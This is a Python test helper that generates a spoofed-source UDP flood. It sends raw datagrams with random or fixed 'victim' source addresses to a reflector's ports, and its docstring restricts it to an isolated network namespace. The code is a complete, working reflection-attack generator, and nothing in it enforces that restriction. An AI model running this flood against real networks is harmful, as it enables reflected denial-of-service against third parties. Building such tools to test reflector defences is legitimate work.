#!/usr/bin/env python3
"""A spoofed-source UDP flood for tests: raw IPv4 datagrams whose source addresses are drawn at
random from a prefix (and, for a share of them, one fixed "victim" address), sent to a reflector's
ports. Run it only inside a network namespace the test created: it needs CAP_NET_RAW, and the
namespace's routes must send the reflector's answers to the spoofed sources nowhere (a dummy
device). Bounded by --count and --seconds, paced by --rate. Prints one JSON line: {"sent": N, "seconds": S}.
"""
import argparse
import ipaddress
import json
import random
import socket
import struct
import time


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--to", required=True, help="the reflector's IPv4 address")
    parser.add_argument("--port", type=int, action="append", required=True,
                        help="a destination port (repeatable: datagrams alternate between them)")
    parser.add_argument("--payload", action="append", required=True,
                        help="a file with the payload for the --port of the same rank")
    parser.add_argument("--prefix", required=True, help="spoofed sources are drawn from it")
    parser.add_argument("--victim", help="one spoofed source that gets --victim-share of them")
    parser.add_argument("--victim-share", type=float, default=0.1)
    parser.add_argument("--count", type=int, default=1_000_000)
    parser.add_argument("--seconds", type=float, default=3.0)
    parser.add_argument("--rate", type=float, default=0, help="datagrams a second (0: at once)")
    parser.add_argument("--seed", type=int, default=1)
    args = parser.parse_args()
    if len(args.port) != len(args.payload):
        parser.error("give one --payload per --port")
    network = ipaddress.ip_network(args.prefix)
    base, size = int(network.network_address), network.num_addresses
    victim = None if args.victim is None else socket.inet_aton(args.victim)
    destination = socket.inet_aton(args.to)
    payloads = [open(path, "rb").read() for path in args.payload]
    # One prepared datagram per port: a 20-byte IPv4 header (the kernel fills the checksum and
    # the identification), an 8-byte UDP header with no checksum (0, allowed over IPv4), payload.
    datagrams = []
    for port, payload in zip(args.port, payloads):
        length = 28 + len(payload)
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0,
                             b"\0\0\0\0", destination)
        udp = struct.pack("!HHHH", 0, port, 8 + len(payload), 0)
        datagrams.append(bytearray(header + udp + payload))
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    rng = random.Random(args.seed)
    victim_every = 0 if victim is None or args.victim_share <= 0 else round(1 / args.victim_share)
    sent = 0
    started = time.monotonic()
    deadline = started + args.seconds
    target = (args.to, 0)
    while sent < args.count:
        if (sent & 63) == 0:
            now = time.monotonic()
            if now >= deadline:
                break
            ahead = sent / args.rate - (now - started) if args.rate > 0 else 0
            if ahead > 0:
                time.sleep(ahead)
        datagram = datagrams[sent % len(datagrams)]
        # Every port gets its share of the victim's datagrams.
        if victim_every and (sent // len(datagrams)) % victim_every == 0:
            datagram[12:16] = victim
        else:
            struct.pack_into("!I", datagram, 12, base + rng.randrange(size))
        # Source ports a prober may use: none the reflector refuses.
        struct.pack_into("!H", datagram, 20, 20000 + (sent % 40000))
        try:
            sender.sendto(datagram, target)
        except OSError:
            pass  # a full buffer (ENOBUFS): the datagram is lost, as on a real link
        sent += 1
    print(json.dumps({"sent": sent, "seconds": round(time.monotonic() - started, 3)}))


if __name__ == "__main__":
    main()
